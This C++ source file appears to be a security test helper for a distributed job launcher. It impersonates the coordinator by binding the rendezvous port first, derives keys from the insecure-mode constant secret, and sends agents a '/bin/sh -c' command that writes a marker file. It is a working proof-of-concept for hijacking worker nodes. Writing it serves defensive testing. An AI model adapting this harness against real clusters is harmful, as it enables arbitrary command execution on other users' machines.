// rogue_coordinator ADDR PORT LOG MARKER: what another local user can run.
// It binds ADDR:PORT (a per-node job's rendezvous, before node 0 does) and
// plays node 0's coordinator to every agent that connects, with every key
// it can compute from public values: the per-node form's derivations from
// the constant --insecure secret (the shared key of old and the per-node
// one). It learns which key an agent holds from the agent's own proof; with
// one it knows, it proves it back and sends an Assign whose worker writes
// MARKER (the attack); with none it gives up on that agent. Each event is a
// line in LOG ("listening", "connection node N", "auth ok", "key unknown").
// Stops after 120 s; the test that starts it kills it first.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "wire/frame_io.h"
#include "wire/hmac_auth.h"
#include "wire/protocol.h"

namespace ds {
namespace {

std::string Derive(const std::string& key, const std::string& what) {
  return HexEncode(HmacSha256(key, Bytes(what.begin(), what.end())));
}

void Log(const std::string& path, const std::string& line) {
  if (FILE* f = std::fopen(path.c_str(), "a")) {
    std::fprintf(f, "%s\n", line.c_str());
    std::fclose(f);
  }
}

void Serve(int fd, const std::string& endpoint, const std::string& log, const std::string& marker) {
  const Deadline deadline = std::chrono::steady_clock::now() + std::chrono::seconds(30);
  auto hello_frame = ReadFrame(fd, deadline, wire::kMaxHandshakePayload);
  if (!hello_frame.ok()) return;
  auto hello = msg::Hello::Decode(hello_frame->payload);
  if (!hello.ok()) return;
  Log(log, fmt::format("connection node {}", hello->node_index));
  const std::string job_id = Derive("dslaunch per-node job", endpoint).substr(0, 12);
  const std::string constant = "dslaunch per-node insecure";
  const std::vector<std::string> keys = {
      Derive(constant, "dslaunch per-node agent " + job_id),
      Derive(constant, fmt::format("dslaunch per-node agent {} {}", job_id, hello->node_index))};
  const Bytes nonce = RandomBytes(wire::kNonceSize);
  if (!WriteFrame(fd, wire::MsgType::kChallenge, msg::Challenge{nonce}.Encode(), deadline).ok()) return;
  auto auth_frame = ReadFrame(fd, deadline, wire::kMaxHandshakePayload);
  if (!auth_frame.ok()) return;
  auto auth = msg::Auth::Decode(auth_frame->payload);
  if (!auth.ok()) return;
  const std::string* key = nullptr;
  for (const std::string& k : keys)
    if (MacEquals(auth->mac, ClientProof(k, nonce))) key = &k;
  if (!key) {
    Log(log, "key unknown");
    return;
  }
  Log(log, "auth ok");
  (void)WriteFrame(fd, wire::MsgType::kAuthOk, msg::AuthOk{ServerProof(*key, nonce)}.Encode(), deadline);
  (void)ReadFrame(fd, deadline);  // Register
  msg::Assign a;
  a.generation = 1;
  a.argv = {"/bin/sh", "-c", "id -u > " + marker};
  a.workers.push_back({0, 0, {}});
  (void)WriteFrame(fd, wire::MsgType::kAssign, a.Encode(), deadline);
  while (ReadFrame(fd, deadline).ok()) {
  }
}

}  // namespace
}  // namespace ds

int main(int argc, char** argv) {
  if (argc != 5) {
    std::fprintf(stderr, "usage: rogue_coordinator ADDR PORT LOG MARKER\n");
    return 2;
  }
  const std::string addr = argv[1], port = argv[2], log = argv[3], marker = argv[4];
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<uint16_t>(std::stoi(port)));
  ::inet_pton(AF_INET, addr.c_str(), &sa.sin_addr);
  if (::bind(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0 || ::listen(fd, 16) != 0) {
    std::perror("rogue_coordinator: bind");
    return 1;
  }
  ds::Log(log, "listening");
  ::alarm(120);
  for (;;) {
    int c = ::accept4(fd, nullptr, nullptr, SOCK_CLOEXEC);
    if (c < 0) continue;
    ds::Serve(c, addr + ":" + port, log, marker);
    ::close(c);
  }
}
